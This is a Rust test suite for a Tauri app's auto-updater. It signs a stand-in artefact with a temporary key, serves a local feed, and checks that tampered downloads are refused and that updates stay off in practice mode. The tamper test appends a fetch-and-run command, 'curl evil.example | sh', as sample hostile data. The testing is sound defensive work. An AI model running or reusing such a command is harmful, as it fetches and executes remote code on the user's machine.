//! Updates against a publisher of the test's own: a key pair generated here with the Tauri
//! CLI (`tauri signer generate`, into a temporary folder; no key is ever committed), an
//! artefact signed with it (`tauri signer sign`), and a feed served on 127.0.0.1 in the
//! shape tauri-action publishes (`latest.json` with `platforms`). The app on the mock runtime
//! runs the real tauri-plugin-updater: it looks at start-up by itself, offers a good update,
//! and its own signature check refuses a tampered artefact, which the page is told as
//! `update_refused` (tests/ui/update.test.mjs shows the words the owner reads).
//!
//! Shipped Linux builds have no updater (see `updater::UPDATES_HERE`), but the plugin's look
//! at the feed and its signature check are the same code on every platform, so they are
//! proven here; nothing is ever installed by these tests.

mod common;

use closeout_app::startup::Startup;
use closeout_app::updater::{self, Feed};
use closeout_core::closure::CancelToken;
use common::{private_data, MockApp};
use serde_json::{json, Value};
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};
use tauri::test::{mock_builder, mock_context, noop_assets};
use tauri::Manager;

const PASSWORD: &str = "test-only password";
const NOTES: &str = "Fixes the domains step";

/// The Tauri CLI the project installs (`npm ci`).
fn tauri_cli(args: &[&str]) -> String {
    let cli = Path::new(env!("CARGO_MANIFEST_DIR")).join("node_modules/.bin/tauri");
    let out = Command::new(&cli)
        .args(args)
        .env("TAURI_SIGNING_PRIVATE_KEY_PASSWORD", PASSWORD)
        .env("CI", "true")
        .output()
        .unwrap_or_else(|e| panic!("{} ({e}): run `npm ci` first", cli.display()));
    assert!(out.status.success(), "tauri {args:?}: {out:?}");
    String::from_utf8(out.stdout).unwrap()
}

/// The test publisher's public key, and its signature of [`ARTEFACT`]. The private key lives
/// in a temporary folder only while it signs.
struct Publisher {
    pubkey: String,
    signature: String,
}

impl Publisher {
    fn get() -> &'static Publisher {
        static PUBLISHER: OnceLock<Publisher> = OnceLock::new();
        PUBLISHER.get_or_init(|| {
            let dir = tempfile::tempdir().unwrap();
            let key = dir.path().join("closeout.key");
            tauri_cli(&[
                "signer",
                "generate",
                "--ci",
                "-p",
                PASSWORD,
                "-w",
                path(&key),
            ]);
            // Signed as the release workflow signs an installer: a `.sig` file beside it.
            let file = dir.path().join("closeout_2.0.0_amd64.deb");
            std::fs::write(&file, ARTEFACT).unwrap();
            tauri_cli(&[
                "signer",
                "sign",
                "-f",
                path(&key),
                "-p",
                PASSWORD,
                path(&file),
            ]);
            let read = |p: PathBuf| std::fs::read_to_string(p).unwrap();
            Publisher {
                pubkey: read(key.with_extension("key.pub")),
                signature: read(PathBuf::from(format!("{}.sig", file.display()))),
            }
        })
    }
}

fn path(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// A small HTTP server on 127.0.0.1: fixed bodies by path, and the paths asked for.
struct Server {
    base: String,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Server {
    /// Serves what `routes` returns for the server's own base address (`http://127.0.0.1:PORT`).
    fn start(routes: impl FnOnce(&str) -> Vec<(String, Vec<u8>)>) -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let routes = routes(&base);
        let asked = Arc::new(Mutex::new(Vec::new()));
        let log = asked.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut reader = BufReader::new(stream);
                let mut line = String::new();
                if reader.read_line(&mut line).is_err() {
                    continue;
                }
                let target = line.split_whitespace().nth(1).unwrap_or("").to_owned();
                // The rest of the head, up to its empty line.
                while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                    line.clear();
                }
                log.lock().unwrap().push(target.clone());
                let (status, body) = match routes.iter().find(|(p, _)| *p == target) {
                    Some((_, body)) => ("200 OK", body.as_slice()),
                    None => ("404 Not Found", &[][..]),
                };
                let head = format!(
                    "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                );
                let mut stream = reader.into_inner();
                let _ = stream
                    .write_all(head.as_bytes())
                    .and_then(|_| stream.write_all(body));
            }
        });
        Server { base, asked }
    }

    fn feed(&self) -> String {
        format!("{}/latest.json", self.base)
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// The installer of the next version, as bytes (the updater only checks their signature here:
/// nothing is installed by these tests).
const ARTEFACT: &[u8] =
    b"!<arch>\ndebian-binary   closeout 2.0.0, a stand-in for the signed .deb\n";
const ARTEFACT_PATH: &str = "/download/closeout_2.0.0_amd64.deb";

/// A version newer than the app's.
fn next_version() -> String {
    let context: tauri::Context<tauri::test::MockRuntime> = mock_context(noop_assets());
    format!("{}.0.0", context.package_info().version.major + 1)
}

/// A feed offering the next version: the artefact signed by the test publisher, and `served`
/// as what the download actually returns.
fn publish(served: &[u8]) -> Server {
    let signature = Publisher::get().signature.clone();
    let served = served.to_vec();
    Server::start(move |base| {
        let manifest = json!({
            "version": next_version(),
            "notes": NOTES,
            "pub_date": "2026-12-01T10:00:00Z",
            "platforms": {
                tauri_plugin_updater::target().unwrap(): {
                    "signature": signature,
                    "url": format!("{base}{ARTEFACT_PATH}"),
                }
            }
        });
        vec![
            ("/latest.json".into(), manifest.to_string().into_bytes()),
            (ARTEFACT_PATH.into(), served),
        ]
    })
}

/// The app as `run` builds it, with the test publisher's key and the local feed.
fn app_with_feed(server: &Server, startup: Startup) -> MockApp {
    let mut context = mock_context(noop_assets());
    let feed = Feed::new(&Publisher::get().pubkey, &server.feed()).unwrap();
    let builder = updater::with_updater(mock_builder(), &mut context, Some(feed));
    MockApp::build(closeout_app::with_commands(builder, startup), context)
}

/// The banner's view once its state is `state` (the start-up look runs by itself), or the
/// last view seen after 20 s.
fn wait_for_state(app: &MockApp, state: &str) -> Value {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let view = app.invoke("update_status", json!({})).unwrap();
        if view["state"] == state || Instant::now() > deadline {
            return view;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn a_signed_update_is_offered_at_start_up_and_its_download_passes_the_signature_check() {
    let (_dir, _lock) = private_data();
    let server = publish(ARTEFACT);
    let app = app_with_feed(&server, Startup::default());
    let view = wait_for_state(&app, "available");
    assert_eq!(view["state"], "available", "{view}");
    assert_eq!(view["version"], next_version());
    assert_eq!(view["notes"], NOTES);
    assert_eq!(view["error"], Value::Null);
    assert_eq!(server.asked(), ["/latest.json"]);

    let update = updater::offered(app.handle()).unwrap();
    let bytes = tauri::async_runtime::block_on(updater::download_verified(&update));
    assert_eq!(bytes.unwrap(), ARTEFACT);
}

#[test]
fn a_tampered_artefact_is_refused_by_the_signature_check_and_the_page_is_told() {
    let (_dir, _lock) = private_data();
    let mut tampered = ARTEFACT.to_vec();
    tampered.extend_from_slice(b"; curl evil.example | sh");
    let server = publish(&tampered);
    let app = app_with_feed(&server, Startup::default());
    assert_eq!(wait_for_state(&app, "available")["state"], "available");

    let refused = app.invoke("install_update", json!({})).unwrap_err();
    assert_eq!(refused["code"], "update_refused", "{refused}");
    assert!(server.asked().contains(&ARTEFACT_PATH.to_owned()));
    let view = app.invoke("update_status", json!({})).unwrap();
    assert_eq!(view["state"], "refused", "{view}");
    assert_eq!(view["version"], next_version());
    assert_eq!(view["error"]["code"], "update_refused");
}

#[test]
fn nothing_is_installed_while_a_step_runs() {
    let (_dir, _lock) = private_data();
    let server = publish(ARTEFACT);
    let app = app_with_feed(&server, Startup::default());
    assert_eq!(wait_for_state(&app, "available")["state"], "available");
    let state = app.handle().state::<closeout_app::state::AppState>();
    *state.step_cancel.lock().unwrap() = Some(CancelToken::default());

    let answer = app.invoke("install_update", json!({})).unwrap_err();
    assert_eq!(answer["code"], "update_wait_for_step", "{answer}");
    assert!(
        !server.asked().contains(&ARTEFACT_PATH.to_owned()),
        "it downloaded"
    );
    assert_eq!(wait_for_state(&app, "available")["state"], "available");
}

#[test]
fn started_on_the_practice_company_it_never_looks_and_never_installs() {
    let (_dir, _lock) = private_data();
    let server = publish(ARTEFACT);
    let practice = Startup::parse(["--practice".into(), "bakery".into()], None);
    let app = app_with_feed(&server, practice);
    std::thread::sleep(Duration::from_secs(2));
    assert_eq!(
        server.asked(),
        Vec::<String>::new(),
        "it looked at the feed"
    );
    assert_eq!(
        app.invoke("update_status", json!({})).unwrap()["state"],
        "off"
    );
    let answer = app.invoke("install_update", json!({})).unwrap_err();
    assert_eq!(answer["code"], "update_not_in_practice", "{answer}");
}

#[test]
fn a_build_without_a_key_has_no_updater() {
    let (_dir, _lock) = private_data();
    let app = MockApp::new();
    assert_eq!(
        app.invoke("update_status", json!({})).unwrap()["state"],
        "off"
    );
    assert_eq!(
        updater::Feed::built_in(),
        None,
        "a development build has a key built in"
    );
}

#[test]
fn opening_the_practice_company_later_hides_the_offer_and_refuses_the_install() {
    let (_dir, _lock) = private_data();
    let server = publish(ARTEFACT);
    let app = app_with_feed(&server, Startup::default());
    assert_eq!(wait_for_state(&app, "available")["state"], "available");
    let state = app.handle().state::<closeout_app::state::AppState>();
    state.set_practice_origin(Some("http://127.0.0.1:9".into()));

    assert_eq!(
        app.invoke("update_status", json!({})).unwrap()["state"],
        "off"
    );
    let answer = app.invoke("install_update", json!({})).unwrap_err();
    assert_eq!(answer["code"], "update_not_in_practice", "{answer}");
    state.set_practice_origin(None);
    assert_eq!(
        app.invoke("update_status", json!({})).unwrap()["state"],
        "available"
    );
}

#[test]
fn the_page_cannot_reach_the_plugin_itself_only_the_apps_commands() {
    let (_dir, _lock) = private_data();
    let server = publish(ARTEFACT);
    // The real context: tauri.conf.json's capability and the build script's ACL.
    let mut context: tauri::Context<tauri::test::MockRuntime> =
        tauri::generate_context!(test = true);
    let feed = Feed::new(&Publisher::get().pubkey, &server.feed()).unwrap();
    let builder = updater::with_updater(mock_builder(), &mut context, Some(feed));
    let app = MockApp::build(
        closeout_app::with_commands(builder, Startup::default()),
        context,
    );
    for command in ["check", "download", "install", "download_and_install"] {
        let answer = app.invoke(&format!("plugin:updater|{command}"), json!({}));
        assert!(
            matches!(&answer, Err(Value::String(text)) if text.contains("not allowed")),
            "plugin:updater|{command}: {answer:?}"
        );
    }
    assert!(app.invoke("update_status", json!({})).is_ok());
}
